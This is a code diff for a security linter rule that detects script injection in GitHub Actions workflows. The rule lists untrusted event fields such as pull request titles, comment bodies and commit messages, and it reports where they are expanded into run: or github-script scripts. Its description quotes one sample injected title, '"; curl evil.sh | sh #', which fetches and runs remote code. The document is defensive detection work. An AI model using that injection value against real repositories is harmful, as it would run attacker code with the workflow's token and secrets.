@@ -7,33 +7,88 @@ from collections.abc import Iterator
 
 from pe_policy.document import Document
 from pe_policy.engine.python_rules import RuleContext, Violation, rule
-from pe_policy.models.workflow import iter_steps
+from pe_policy.models.workflow import expressions, iter_scripts
 
-_EXPRESSION = re.compile(r"\$\{\{(.*?)\}\}", re.DOTALL)
-
-# Fields anyone who can open an issue or a pull request controls (GitHub's security hardening guide).
-_UNTRUSTED = re.compile(
-    r"""
-    github\.head_ref
-    | github\.event\.(?:issue|pull_request|discussion)\.(?:title|body)
-    | github\.event\.(?:comment|review|review_comment)\.body
-    | github\.event\.pull_request\.head\.(?:ref|label|repo\.default_branch)
-    | github\.event\.pages(?:\[[^\]]*\]|\.\*)?\.page_name
-    | github\.event\.(?:workflow_run\.)?head_commit\.(?:message|author\.(?:email|name))
-    | github\.event\.commits(?:\[[^\]]*\]|\.\*)?\.(?:message|author\.(?:email|name))
-    | github\.event\.workflow_run\.(?:head_branch|display_title)
-    | github\.event\.workflow_run\.pull_requests(?:\[[^\]]*\]|\.\*)?\.head\.ref
-    """,
-    re.VERBOSE,
+# Fields anyone who can open an issue, a pull request or a fork controls: GitHub's
+# security-hardening guide ("Understanding the risk of script injections") plus the
+# same data reached through other events (workflow_run, check_suite, edits).
+# `*` stands for any one segment (an array index or `*`).
+UNTRUSTED_FIELDS: tuple[str, ...] = (
+    "github.head_ref",
+    "github.event.issue.title",
+    "github.event.issue.body",
+    "github.event.pull_request.title",
+    "github.event.pull_request.body",
+    "github.event.pull_request.head.ref",
+    "github.event.pull_request.head.label",
+    "github.event.pull_request.head.repo.default_branch",
+    "github.event.discussion.title",
+    "github.event.discussion.body",
+    "github.event.comment.body",
+    "github.event.review.body",
+    "github.event.review_comment.body",
+    "github.event.changes.title.from",
+    "github.event.changes.body.from",
+    "github.event.pages.*.page_name",
+    "github.event.commits.*.message",
+    "github.event.commits.*.author.email",
+    "github.event.commits.*.author.name",
+    "github.event.commits.*.committer.email",
+    "github.event.commits.*.committer.name",
+    "github.event.head_commit.message",
+    "github.event.head_commit.author.email",
+    "github.event.head_commit.author.name",
+    "github.event.head_commit.committer.email",
+    "github.event.head_commit.committer.name",
+    "github.event.workflow_run.head_branch",
+    "github.event.workflow_run.display_title",
+    "github.event.workflow_run.head_commit.message",
+    "github.event.workflow_run.head_commit.author.email",
+    "github.event.workflow_run.head_commit.author.name",
+    "github.event.workflow_run.pull_requests.*.head.ref",
+    "github.event.merge_group.head_commit.message",
+    "github.event.check_suite.head_branch",
+    "github.event.check_run.check_suite.head_branch",
 )
+_PATTERNS = tuple(tuple(field.split(".")) for field in UNTRUSTED_FIELDS)
+
+# a context reference inside a normalised expression body (`a.b.*.c`, `a.b.0.c`)
+_REFERENCE = re.compile(r"(?<![\w.])github(?:\.(?:[\w-]+|\*))*", re.IGNORECASE)
+_INDEX = re.compile(r"\[(\d+|\*)\]")
+# a whole expression that can only yield true/false: nothing of the text gets through
+_BOOLEAN_ONLY = re.compile(r"^!?(?:contains|startswith|endswith)\([^()]*\)$", re.IGNORECASE)
 
 
-def untrusted_expressions(script: str) -> Iterator[tuple[str, str]]:
-    """(whole `${{ }}` expression, the untrusted field in it) for each dangerous expansion."""
-    for match in _EXPRESSION.finditer(script):
-        field = _UNTRUSTED.search(match.group(1))
+def _segments_match(ref: tuple[str, ...], pattern: tuple[str, ...]) -> bool:
+    return all(p == "*" or r == p for r, p in zip(ref, pattern, strict=False))
+
+
+def untrusted_field(reference: str, whole_object_ok: bool) -> str | None:
+    """How a message names the untrusted data `reference` reaches, or None.
+
+    A whole object (`github.event`) counts only when it is serialised
+    (`whole_object_ok` False), as `toJSON(github.event)` prints every field.
+    """
+    ref = tuple(reference.lower().split("."))
+    for pattern in _PATTERNS:
+        if len(ref) >= len(pattern) and _segments_match(ref, pattern):
+            return f"`{reference}`"
+        if not whole_object_ok and len(ref) < len(pattern) and _segments_match(ref, pattern):
+            return f"`{reference}` (it includes `{'.'.join(pattern)}`)"
+    return None
+
+
+def untrusted_references(body: str) -> Iterator[str]:
+    """Untrusted fields an expression body puts into its result."""
+    body = _INDEX.sub(r".\1", body)
+    if _BOOLEAN_ONLY.match(body) and "&&" not in body and "||" not in body:
+        return
+    for match in _REFERENCE.finditer(body):
+        # a whole object (`github.event`) only leaks when serialised: toJSON(github.event)
+        serialised = body[: match.start()].lower().endswith(("tojson(", "join("))
+        field = untrusted_field(match.group(0), whole_object_ok=not serialised)
         if field:
-            yield match.group(0), field.group(0)
+            yield field
 
 
 @rule(
@@ -44,7 +99,11 @@ def untrusted_expressions(script: str) -> Iterator[tuple[str, str]]:
     description=(
         "`${{ }}` expressions are pasted into the script before the shell runs it, so a pull "
         "request title such as `\"; curl evil.sh | sh #` becomes code running with the job's "
-        "token and secrets."
+        "token and secrets. Checked: `run:` scripts and `actions/github-script` scripts, for the "
+        "fields GitHub's hardening guide lists as untrusted (titles, bodies, comments, head "
+        "branch names, commit messages and authors, page names) and their equivalents in "
+        "`workflow_run`/`check_suite` events, including `toJSON(github.event)`. Values passed "
+        "through `env:` are not reported: that is the fix."
     ),
     remediation=(
         "Pass the value through an environment variable and quote it in the script: "
@@ -53,19 +112,17 @@ def untrusted_expressions(script: str) -> Iterator[tuple[str, str]]:
     source="seed 003 (security)",
 )
 def untrusted_input(doc: Document, ctx: RuleContext) -> Iterator[Violation]:
-    for step_path, _job_id, step in iter_steps(doc.model):
-        scripts: list[tuple[tuple[str | int, ...], str, str]] = []
-        if step.run:
-            scripts.append(((*step_path, "run"), step.run, "`run:` script"))
-        if step.uses and step.uses.startswith("actions/github-script") and step.with_:
-            script = step.with_.get("script")
-            if isinstance(script, str):
-                scripts.append(((*step_path, "with", "script"), script, "github-script `script:`"))
-        for path, script, where in scripts:
-            for expression, field in untrusted_expressions(script):
-                yield Violation(
-                    f"untrusted `{field}` is expanded into a {where}: pass it through `env:` "
-                    "and reference the variable instead",
-                    path,
-                    snippet=expression,
-                )
+    for script in iter_scripts(doc.model):
+        for text, field in _expressions_with_fields(script.text):
+            yield Violation(
+                f"untrusted {field} is expanded into a {script.where}: pass it through `env:` "
+                "and reference the variable instead",
+                script.path,
+                snippet=text,
+            )
+
+
+def _expressions_with_fields(script: str) -> Iterator[tuple[str, str]]:
+    for expression in expressions(script):
+        for field in dict.fromkeys(untrusted_references(expression.body)):
+            yield expression.text, field
